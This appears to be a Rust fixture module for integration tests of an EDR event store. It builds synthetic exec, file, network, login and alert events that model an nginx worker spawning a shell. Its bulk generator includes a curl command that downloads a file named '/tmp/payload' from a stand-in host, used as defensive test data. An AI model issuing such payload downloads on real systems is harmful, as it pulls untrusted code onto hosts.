//! Fixture builders shared by the integration tests.
// `exec` mirrors the fields of an exec event; a builder would hide what each test sets.
#![allow(clippy::too_many_arguments)]
#![allow(dead_code)]

use edr_event::*;
use edr_store::{Store, StoreConfig};
use std::path::Path;
use std::sync::Arc;

/// 2026-05-29T00:00:00Z in ns: a fixed base time for fixtures.
pub const T0: u64 = 1_780_000_000_000_000_000;
/// One second in ns.
pub const S: u64 = 1_000_000_000;

pub fn open(dir: &Path) -> Store {
    Store::open(StoreConfig::new(dir.join("events.db"))).expect("open store")
}

pub fn exec(id: u64, time: u64, pid: u32, ppid: u32, entity: u64, parent: u64, exe: &str, argv: &[&str]) -> Event {
    Event {
        id,
        time,
        partial: false,
        body: EventBody::ProcessExec(ProcessExec {
            pid,
            ppid,
            entity_id: entity,
            parent_entity_id: parent,
            exe: exe.into(),
            argv: argv.iter().map(|s| s.to_string()).collect(),
            cwd: "/".into(),
            uid: 33,
            user: "www-data".into(),
            start_time: time,
            parent_exe: "/usr/sbin/nginx".into(),
            parent_argv: vec!["nginx: worker process".into()],
            ancestry: vec!["/usr/sbin/nginx".into(), "/usr/lib/systemd/systemd".into()],
            ..Default::default()
        }),
    }
}

pub fn file(id: u64, time: u64, op: FileOp, path: &str, pid: u32, entity: u64, exe: &str) -> Event {
    Event {
        id,
        time,
        partial: false,
        body: EventBody::File(FileEvent {
            op,
            path: path.into(),
            old_path: None,
            mode: Some(0o644),
            pid: Some(pid),
            entity_id: Some(entity),
            exe: Some(exe.into()),
            uid: Some(33),
        }),
    }
}

pub fn connect(id: u64, time: u64, pid: u32, entity: u64, exe: &str, remote: &str, port: u16) -> Event {
    Event {
        id,
        time,
        partial: false,
        body: EventBody::Network(NetworkEvent {
            op: NetworkOp::Connect,
            transport: Transport::Tcp,
            local_ip: "10.0.0.5".into(),
            local_port: 40000 + (id % 20000) as u16,
            remote_ip: remote.into(),
            remote_port: port,
            pid: Some(pid),
            entity_id: Some(entity),
            exe: Some(exe.into()),
            uid: Some(33),
            netns: None,
            bytes_sent: None,
            bytes_received: None,
        }),
    }
}

pub fn exit(id: u64, time: u64, pid: u32, entity: u64, code: i32) -> Event {
    Event { id, time, partial: false, body: EventBody::ProcessExit(ProcessExit { pid, entity_id: entity, exit_code: code }) }
}

pub fn login(id: u64, time: u64, user: &str, ip: &str, ok: bool) -> Event {
    Event {
        id,
        time,
        partial: false,
        body: EventBody::Login(LoginEvent {
            user: user.into(),
            source_ip: Some(ip.into()),
            service: "sshd".into(),
            method: "publickey".into(),
            success: ok,
            pid: Some(777),
        }),
    }
}

pub fn alert(id: u64, time: u64, rule: &str, event: &Event) -> Alert {
    Alert {
        id,
        time,
        plugin: "lineage".into(),
        pack: Some(PackRef { id: "edr.builtin".into(), version: "1.0.0".into(), signer: "dev".into() }),
        finding: Finding {
            rule_id: rule.into(),
            title: "Service spawned a shell".into(),
            severity: Severity::High,
            techniques: vec!["T1505.003".into()],
            message: "nginx started sh".into(),
            author: "edr team".into(),
            event_ids: vec![event.id],
            evidence: vec![("exe".into(), "/bin/sh".into())],
        },
        event: Some(event.clone()),
    }
}

/// Appends and waits for the commit.
pub fn ingest(store: &Store, events: Vec<Event>) {
    let w = store.writer();
    w.append_events(Arc::new(events)).expect("queue has room");
    w.flush().expect("flush");
}

/// A realistic mix for bulk tests: exec, file and network events of many processes.
pub fn mixed(first_id: u64, n: usize, time: u64) -> Vec<Event> {
    (0..n as u64)
        .map(|i| {
            let id = first_id + i;
            let entity = 0x9e37_79b9_7f4a_7c15u64.wrapping_mul(id / 8 + 1);
            let pid = 1000 + (id / 8 % 30000) as u32;
            match id % 8 {
                0 => exec(id, time + i, pid, 1, entity, 0x1234, "/usr/bin/curl", &["curl", "-s", "-o", "/tmp/payload", "http://example.test/x"]),
                1..=5 => file(id, time + i, FileOp::Read, &format!("/var/lib/app/data/{}.db", id % 97), pid, entity, "/usr/bin/curl"),
                _ => connect(id, time + i, pid, entity, "/usr/bin/curl", "203.0.113.7", 443),
            }
        })
        .collect()
}
